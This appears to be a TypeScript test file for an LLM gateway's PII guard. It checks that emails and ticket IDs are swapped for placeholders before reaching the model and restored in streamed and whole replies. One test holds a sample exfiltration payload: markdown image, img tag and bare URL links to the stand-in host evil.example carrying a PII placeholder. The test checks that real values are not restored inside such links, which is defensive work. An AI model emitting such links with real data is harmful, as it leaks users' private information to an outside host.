import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import type { GuardSettings } from '@sallyport/core';
import { answerJson, cutEvery, ScriptedUpstream, stream } from '@sallyport/testkit';
import { GUARDED, type GuardedCase } from './guarded.ts';
import { GUARD, type Harness, post, route, startHarness, upstream } from './harness.ts';

const EMAIL = 'ada@corp.io';
/** A value of the operator's own class, with everything in it that JSON escapes. */
const TICKET = 'T<"a\\b">';
const PII: GuardSettings['pii'] = {
  actions: {},
  recognisers: [{ name: 'ticket', pattern: 'T<[^>]{1,20}>', ignoreCase: false, context: [], checksum: null }],
};
const REPLY = 'Dear [EMAIL_1], [EMAIL_2] and [PHONE_1] are not mine.';
const SHOWN = 'Dear ada@corp.io, [EMAIL_2] and [PHONE_1] are not mine.';

/** The text in two deltas, cut at every place of its first placeholder and around it, then in single units. */
const SPLITS: readonly (readonly string[])[] = [
  ...Array.from({ length: 16 }, (_, at) => [REPLY.slice(0, at + 3), REPLY.slice(at + 3)]),
  [...REPLY],
  [REPLY],
];

describe('values that come back', () => {
  let engine: ScriptedUpstream;
  let harness: Harness;
  before(async () => {
    engine = await ScriptedUpstream.start();
    harness = await startHarness({
      upstreams: [upstream(engine.url), upstream(engine.url, { name: 'ollama', kind: 'ollama' })],
      routes: [route('chat'), route('llama', { upstream: 'ollama' })],
    });
    harness.publish({ guard: { ...GUARD, input: ['pii:tokenise'], output: ['pii:mask'], pii: PII } });
  });
  after(async () => {
    await harness[Symbol.asyncDispose]();
    await engine[Symbol.asyncDispose]();
  });

  const asking = (dialect: GuardedCase, streamed: boolean, words: string): string =>
    dialect.body(streamed).replace('"Hello"', JSON.stringify(words));
  const ask = async (dialect: GuardedCase, chunks: readonly Buffer[], words: string): Promise<string> => {
    engine.once(stream(chunks, { contentType: dialect.streamType }));
    const answer = await post(harness, dialect.path, asking(dialect, true, words));
    assert.equal(answer.status, 200);
    return answer.text();
  };
  const askWhole = async (dialect: GuardedCase, text: string, words: string): Promise<string> => {
    engine.once(answerJson(dialect.reply(text)));
    const answer = await post(harness, dialect.path, asking(dialect, false, words));
    assert.equal(answer.status, 200);
    return dialect.wholeText(await answer.text());
  };
  const sent = async (): Promise<string> => {
    const request = engine.requests.at(-1);
    assert.ok(request !== undefined);
    return (await request.body).toString();
  };

  for (const dialect of GUARDED) {
    it(`${dialect.name}: the model sees a placeholder, the client its own value, however the reply is cut`, async () => {
      const words = `Write to ${EMAIL}`;
      assert.equal(await askWhole(dialect, REPLY, words), SHOWN);
      assert.ok((await sent()).includes('Write to [EMAIL_1]') && !(await sent()).includes(EMAIL));
      for (const deltas of SPLITS) {
        const events = dialect.events(deltas);
        for (const chunks of [events, cutEvery(Buffer.concat(events), 50)]) {
          assert.equal(dialect.textOf(await ask(dialect, chunks, words)), SHOWN, JSON.stringify(deltas));
        }
      }
      assert.deepEqual(harness.entries.at(-1)?.verdicts, [{ detector: 'pii', category: 'email', action: 'redact', count: 1 }]);
    });

    it(`${dialect.name}: a placeholder of nobody in this exchange stays, and somebody else's value is taken out`, async () => {
      assert.equal(await askWhole(dialect, REPLY, 'Hello'), REPLY);
      assert.equal(await askWhole(dialect, `${EMAIL} wrote`, 'Hello'), '[EMAIL_1] wrote');
      // The client wrote the placeholder itself: what it sent has another number, and the words stay words.
      assert.equal(await askWhole(dialect, '[EMAIL_1] [EMAIL_2]', `[EMAIL_1] is not ${EMAIL}`), `[EMAIL_1] ${EMAIL}`);
      // Its own value, should the model know it from elsewhere, is nothing to hide from it; another's is.
      assert.equal(await askWhole(dialect, `${EMAIL} bob@corp.io`, `I am ${EMAIL}`), `${EMAIL} [EMAIL_2]`);
    });

    it(`${dialect.name}: nothing is put back into a link to somewhere`, async () => {
      const evil = '![x](https://evil.example/?q=[EMAIL_1]) <img src="//evil.example/a b[EMAIL_1]"> www.evil.example/[EMAIL_1]';
      assert.equal(await askWhole(dialect, `${evil} [EMAIL_1]`, `I am ${EMAIL}`), `${evil} ${EMAIL}`);
      assert.equal(await askWhole(dialect, 'mailto:[EMAIL_1]', `I am ${EMAIL}`), `mailto:${EMAIL}`);
    });

    for (const [kind, events] of Object.entries(dialect.others)) {
      const isCall = kind.startsWith('arguments');
      it(`${dialect.name}: ${kind} get the value back${isCall ? ', escaped for JSON' : ''}`, async () => {
        const text = isCall ? '{"note": "see [TICKET_1]", "to": "[EMAIL_1]"}' : 'see [TICKET_1] of [EMAIL_1]';
        const wanted = isCall
          ? `{"note": ${JSON.stringify(`see ${TICKET}`)}, "to": ${JSON.stringify(EMAIL)}}`
          : `see ${TICKET} of ${EMAIL}`;
        for (let at = 1; at < text.length; at++) {
          const body = await ask(dialect, events([text.slice(0, at), text.slice(at)]), `About ${TICKET} from ${EMAIL}`);
          const read = joined(body, events(['@@']));
          assert.equal(read, wanted, `${kind} cut at ${at}`);
        }
        assert.ok((await sent()).includes('About [TICKET_1] from [EMAIL_1]'));
      });
    }
  }

  it('several messages of a request share their placeholders', async () => {
    engine.once(answerJson(GUARDED[0]?.reply('[EMAIL_2] then [EMAIL_1]') ?? {}));
    const messages = [`I am ${EMAIL}`, `and bob@corp.io, not ${EMAIL}`].map((content) => ({ role: 'user', content }));
    const answer = await post(harness, '/v1/chat/completions', JSON.stringify({ model: 'chat', messages }));
    assert.equal(GUARDED[0]?.wholeText(await answer.text()), `bob@corp.io then ${EMAIL}`);
    assert.ok((await sent()).includes('and [EMAIL_2], not [EMAIL_1]'));
  });
});

/** The strings of the deltas of one kind, put together: `pattern` is a stream of the same kind whose only text is `@@`. */
function joined(body: string, pattern: readonly Buffer[]): string {
  const frame = pattern.map(String).find((event) => event.includes('@@')) ?? '';
  const name = /"([a-z_]+)":"@@"/.exec(frame)?.[1] ?? '';
  const type = /"type":"([a-z_.]+)"/.exec(frame)?.[1];
  let text = '';
  const take = (value: unknown, key: string): void => {
    if (typeof value === 'string' && key === name) text += value;
    else if (typeof value === 'object' && value !== null) for (const [inner, item] of Object.entries(value)) take(item, inner);
  };
  for (const line of body.split('\n').map((written) => written.replace(/^data: /, ''))) {
    if (!line.startsWith('{')) continue;
    const event: unknown = JSON.parse(line);
    const isTyped = typeof event === 'object' && event !== null && 'type' in event;
    if (!isTyped || event.type === type) take(event, '');
  }
  return text;
}
